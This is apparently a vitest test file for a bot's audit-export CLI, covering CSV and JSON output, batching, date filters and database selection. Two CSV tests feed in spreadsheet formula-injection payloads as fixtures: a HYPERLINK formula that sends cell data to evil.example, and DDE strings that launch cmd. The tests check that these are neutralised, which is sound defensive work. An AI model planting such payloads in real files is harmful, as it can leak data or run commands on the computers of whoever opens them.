import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseAuditArgs, parseSince, runAudit } from "../src/audit/cli.ts";
import { CSV_COLUMNS, csvField, writeAudit } from "../src/audit/export.ts";
import { DEFAULT_DATABASE_PATH } from "../src/config.ts";
import type { Database } from "../src/db/database.ts";
import { openSqlite } from "../src/db/sqlite/open.ts";
import {
  DAY,
  expectFullCsv,
  expectFullJson,
  expectSinceDay3,
  parseCsv,
  recordRequest,
  runAuditProcess,
  seedAuditData,
  T0,
} from "./support/auditExport.ts";

// The same export from a PostgreSQL database given as a postgres:// URL: test/audit-export.postgres.test.ts.

describe("audit export", () => {
  let dir: string;
  let file: string;
  let database: Database;
  let ids: number[] = [];

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), "audit-test-"));
    file = join(dir, "bot.sqlite");
    ids = await seedAuditData(async (now) => openSqlite(file, { now }));
    database = openSqlite(file, { readonly: true });
  });

  afterAll(async () => {
    await database.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const exportText = async (format: "csv" | "json", since?: number) => {
    let out = "";
    const counts = await writeAudit(
      database.stores.audit,
      { format, since },
      (chunk) => {
        out += chunk;
      },
      new Date(T0 + 10 * DAY),
    );
    return { out, counts };
  };

  it("writes CSV: one row per transition with its request's fields, quoted where needed", async () => {
    const { out, counts } = await exportText("csv");
    expect(counts).toEqual({ requests: 2, transitions: 6 });
    expectFullCsv(out, ids);
  });

  it("writes JSON: every request with its transitions, dates in ISO 8601", async () => {
    const { out, counts } = await exportText("json");
    expect(counts).toEqual({ requests: 2, transitions: 6 });
    const parsed = expectFullJson(out, ids);
    expect(parsed.exportedAt).toBe(new Date(T0 + 10 * DAY).toISOString());
  });

  it("--since keeps what changed from then on", async () => {
    const since = T0 + 3 * DAY;
    expectSinceDay3((await exportText("json", since)).out, (await exportText("csv", since)).out, ids);
    expect((await exportText("csv", since)).counts).toEqual({ requests: 1, transitions: 2 });
    // Nothing after the last change: an empty but well-formed export.
    expect(JSON.parse((await exportText("json", T0 + 9 * DAY)).out)).toMatchObject({ requests: [] });
    expect(parseCsv((await exportText("csv", T0 + 9 * DAY)).out)).toEqual([[...CSV_COLUMNS]]);
  });

  it("reads in batches: every request and transition of a table larger than one batch, in order", async () => {
    const bigDir = mkdtempSync(join(tmpdir(), "audit-big-"));
    const big = openSqlite(join(bigDir, "bot.sqlite"), { now: () => T0 });
    try {
      // Two batch boundaries (a batch is 500 requests).
      for (let i = 0; i < 1001; i++) {
        const r = await recordRequest(big.stores.requests, `Client ${i}`, "Seeded.", `VB${i}`, DAY, T0);
        if (i % 2 === 0)
          await big.stores.requests.transition({ id: r.id, from: "pending", to: "expired", actor: "system" });
      }
      let out = "";
      const counts = await writeAudit(big.stores.audit, { format: "csv", since: undefined }, (chunk) => {
        out += chunk;
      });
      expect(counts).toEqual({ requests: 1001, transitions: 1001 + 501 });
      const rows = parseCsv(out).slice(1);
      expect(rows).toHaveLength(1001 + 501);
      const ids = rows.map((r) => Number(r[CSV_COLUMNS.indexOf("request_id")]));
      expect(ids).toEqual([...ids].sort((a, b) => a - b));
      expect(new Set(ids).size).toBe(1001);
    } finally {
      await big.close();
      rmSync(bigDir, { recursive: true, force: true });
    }
  });

  it("puts a ' before a cell a spreadsheet would run as a formula, and before one starting with ', so the text is recoverable", () => {
    expect(csvField('=HYPERLINK("https://evil.example","x")')).toBe('"\'=HYPERLINK(""https://evil.example"",""x"")"');
    expect(csvField("+1+1")).toBe("'+1+1");
    expect(csvField("-2+3")).toBe("'-2+3");
    expect(csvField("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvField("\t=1")).toBe("'\t=1");
    expect(csvField("\r=1")).toBe('"\'\r=1"');
    expect(csvField("'quoted'")).toBe("''quoted'");
    // Anywhere but the start, and in plain text and numbers, nothing changes.
    expect(csvField("a=b")).toBe("a=b");
    expect(csvField("x-1")).toBe("x-1");
    expect(csvField(1800)).toBe("1800");
    expect(csvField("")).toBe("");
  });

  it("exports formula-like fields neutralised in CSV and exact in JSON, the CSV text recoverable", async () => {
    const formulaDir = mkdtempSync(join(tmpdir(), "audit-formula-"));
    const formulas = openSqlite(join(formulaDir, "bot.sqlite"), { now: () => T0 });
    try {
      const tricky = {
        name: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
        justification: "+cmd|' /C calc'!A0",
        reason: "-1+1",
        detail: "@SUM(1+1)*cmd|' /C calc'!A0",
      };
      const r = await recordRequest(formulas.stores.requests, tricky.name, tricky.justification, "VF1", DAY, T0);
      await formulas.stores.requests.transition({
        id: r.id,
        from: "pending",
        to: "denied",
        actor: "U0APPROVE1",
        detail: tricky.detail,
        set: { decisionReason: tricky.reason, decidedBy: "U0APPROVE1", decidedAt: T0 },
      });
      const exported = async (format: "csv" | "json") => {
        let out = "";
        await writeAudit(formulas.stores.audit, { format, since: undefined }, (chunk) => {
          out += chunk;
        });
        return out;
      };
      const rows = parseCsv(await exported("csv")).slice(1);
      const cells = (name: (typeof CSV_COLUMNS)[number]) => rows.map((row) => row[CSV_COLUMNS.indexOf(name)] ?? "");
      for (const [column, text] of [
        ["name", tricky.name],
        ["justification", tricky.justification],
        ["decision_reason", tricky.reason],
      ] as const) {
        for (const cell of cells(column)) {
          expect(cell).toBe(`'${text}`);
          // The documented way back: a cell starting with ' had one ' put in front.
          expect(cell.startsWith("'") ? cell.slice(1) : cell).toBe(text);
        }
      }
      expect(cells("detail")).toContain(`'${tricky.detail}`);
      // No cell a spreadsheet would run is left.
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

      const json = JSON.parse(await exported("json")) as {
        requests: { name: string; justification: string; decisionReason: string; transitions: { detail: string }[] }[];
      };
      expect(json.requests[0]).toMatchObject({
        name: tricky.name,
        justification: tricky.justification,
        decisionReason: tricky.reason,
      });
      expect(json.requests[0]?.transitions.map((t) => t.detail)).toContain(tricky.detail);
    } finally {
      await formulas.close();
      rmSync(formulaDir, { recursive: true, force: true });
    }
  });

  it("quotes exactly the fields that need it", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("cr\r")).toBe('"cr\r"');
    expect(csvField(null)).toBe("");
    expect(csvField(42)).toBe("42");
  });
});

describe("audit command line", () => {
  it("accepts dates and date-times with a zone, and refuses anything else", () => {
    expect(parseSince("2026-01-31")).toBe(Date.UTC(2026, 0, 31));
    expect(parseSince("2026-01-31T08:00:00Z")).toBe(Date.UTC(2026, 0, 31, 8));
    expect(parseSince("2026-01-31T08:00+01:00")).toBe(Date.UTC(2026, 0, 31, 7));
    expect(parseSince("2026-01-31T08:00:00.250Z")).toBe(Date.UTC(2026, 0, 31, 8, 0, 0, 250));
    for (const bad of [
      "2026-02-30",
      "2026-13-01",
      "yesterday",
      "31/01/2026",
      "2026-01-31T08:00:00",
      "2026-01-31T25:00Z",
      "",
      "1700000000",
    ]) {
      expect(parseSince(bad), bad).toBeUndefined();
    }
  });

  it("explains every bad flag at once", () => {
    const bad = parseAuditArgs(["--format", "xml", "--since", "2026-02-30"], {});
    expect(bad.ok).toBe(false);
    const message = bad.ok === false ? bad.message : "";
    expect(message).toContain('--format must be csv or json, not "xml"');
    expect(message).toContain('--since "2026-02-30" is not a date');

    const problems: [string[], string][] = [
      [[], "--format is required"],
      [["--format", "csv", "--verbose"], "unknown flag --verbose"],
      [["--format"], "--format needs a value"],
      [["--format", "csv", "extra"], "unexpected argument extra"],
      [["--format", "csv", "--db", ":memory:"], "nothing stored to export"],
    ];
    for (const [argv, expected] of problems) {
      const result = parseAuditArgs(argv, {});
      expect(result.ok, argv.join(" ")).toBe(false);
      expect(result.ok === false ? result.message : "").toContain(expected);
    }
  });

  it("takes the database from --db, else DATABASE_URL, else DATABASE_PATH, else the bot's default", () => {
    const pick = (argv: string[], env: NodeJS.ProcessEnv) => {
      const r = parseAuditArgs(["--format", "json", ...argv], env);
      return r.ok === true ? r.options.database : undefined;
    };
    const url = "postgres://bot:secret@db.example.com:5432/bot";
    expect(pick(["--db", "a.sqlite"], { DATABASE_PATH: "b.sqlite", DATABASE_URL: url })).toBe("a.sqlite");
    expect(pick(["--db=a.sqlite"], {})).toBe("a.sqlite");
    expect(pick(["--db", url], { DATABASE_PATH: "b.sqlite" })).toBe(url);
    expect(pick([], { DATABASE_URL: url, DATABASE_PATH: "b.sqlite" })).toBe(url);
    expect(pick([], { DATABASE_URL: "  ", DATABASE_PATH: "b.sqlite" })).toBe("b.sqlite");
    expect(pick([], { DATABASE_PATH: "b.sqlite" })).toBe("b.sqlite");
    expect(pick([], {})).toBe("./data/auth-clients.sqlite");
    expect(DEFAULT_DATABASE_PATH).toBe("./data/auth-clients.sqlite");
  });

  it("says clearly when there is no database, and creates none", async () => {
    const dir = mkdtempSync(join(tmpdir(), "audit-missing-"));
    try {
      const missing = join(dir, "nope.sqlite");
      let err = "";
      const io = {
        out: () => {},
        err: (c: string) => {
          err += c;
        },
      };
      const code = await runAudit(["--format", "csv", "--db", missing], {}, io);
      expect(code).toBe(1);
      expect(err).toContain("no database at");
      expect(existsSync(missing)).toBe(false);

      const notOurs = join(dir, "other.sqlite");
      writeFileSync(notOurs, "");
      err = "";
      expect(await runAudit(["--format", "csv", "--db", notOurs], {}, io)).toBe(1);
      expect(err).toContain("is this the bot's database?");
      // Read-only: the file is left as it was (no migrations, no tables).
      expect(readFileSync(notOurs)).toHaveLength(0);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("audit as a process (npm run audit)", () => {
  let dir: string;
  let file: string;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), "audit-process-"));
    file = join(dir, "bot.sqlite");
    const database = openSqlite(file);
    await recordRequest(database.stores.requests, 'Quoted, "name"', "Because.\nReally.", "VP1", DAY, Date.now());
    await database.close();
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it("writes the export to stdout and exits 0; bad flags go to stderr with exit 2", async () => {
    const csv = await runAuditProcess(["--format", "csv"], { DATABASE_PATH: file, HOME: dir });
    expect(csv.stderr).toBe("");
    expect(csv.code).toBe(0);
    const rows = parseCsv(csv.stdout);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(2);
    expect(rows[1]?.[CSV_COLUMNS.indexOf("name")]).toBe('Quoted, "name"');

    const json = await runAuditProcess(["--format", "json", "--db", file, "--since", "2000-01-01"], { HOME: dir });
    expect(json.code).toBe(0);
    expect((JSON.parse(json.stdout) as { requests: unknown[] }).requests).toHaveLength(1);

    const bad = await runAuditProcess(["--format", "yaml", "--db", file], { HOME: dir });
    expect(bad.code).toBe(2);
    expect(bad.stdout).toBe("");
    expect(bad.stderr).toContain('--format must be csv or json, not "yaml"');
    expect(bad.stderr).toContain("Usage:");
  }, 30_000);
});

describe("audit export of requests about existing clients", () => {
  it("says each request's kind and the client it acts on, in CSV and in JSON", async () => {
    const dir = mkdtempSync(join(tmpdir(), "audit-kinds-"));
    const database = openSqlite(join(dir, "bot.sqlite"));
    try {
      const store = database.stores.requests;
      const created = await recordRequest(store, "App", "Needed.", "VK1", DAY, T0);
      const recorded = await store.record({
        form: {
          tenant: "default",
          name: "App",
          redirectUris: ["https://app.example.com/cb"],
          postLogoutRedirectUris: [],
          allowedCorsOrigins: [],
          accessTokenLifetime: 600,
          justification: "Shorter tokens.",
        },
        requesterId: "U0REQUEST",
        originChannelId: undefined,
        submissionKey: "VK2",
        expiresAt: T0 + DAY,
        nextReminderAt: null,
        maxPending: 10,
        about: {
          kind: "change",
          targetClientId: "client-x",
          baseline: {
            name: "App",
            redirectUris: ["https://app.example.com/cb"],
            postLogoutRedirectUris: [],
            allowedCorsOrigins: [],
            accessTokenLifetime: 3600,
            enabled: true,
          },
        },
      });
      if (recorded.kind !== "recorded") throw new Error(recorded.kind);
      const exported = async (format: "csv" | "json") => {
        let out = "";
        await writeAudit(database.stores.audit, { format, since: undefined }, (chunk) => {
          out += chunk;
        });
        return out;
      };
      const rows = parseCsv(await exported("csv")).slice(1);
      const cells = (name: (typeof CSV_COLUMNS)[number]) => rows.map((row) => row[CSV_COLUMNS.indexOf(name)]);
      expect(cells("request_id")).toEqual([String(created.id), String(recorded.request.id)]);
      expect(cells("kind")).toEqual(["create", "change"]);
      expect(cells("target_client_id")).toEqual(["", "client-x"]);
      expect(cells("detail")).toEqual(["", "change client client-x"]);
      const json = JSON.parse(await exported("json")) as {
        requests: { kind: string; targetClientId: string | null }[];
      };
      expect(json.requests.map((r) => [r.kind, r.targetClientId])).toEqual([
        ["create", null],
        ["change", "client-x"],
      ]);
    } finally {
      await database.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
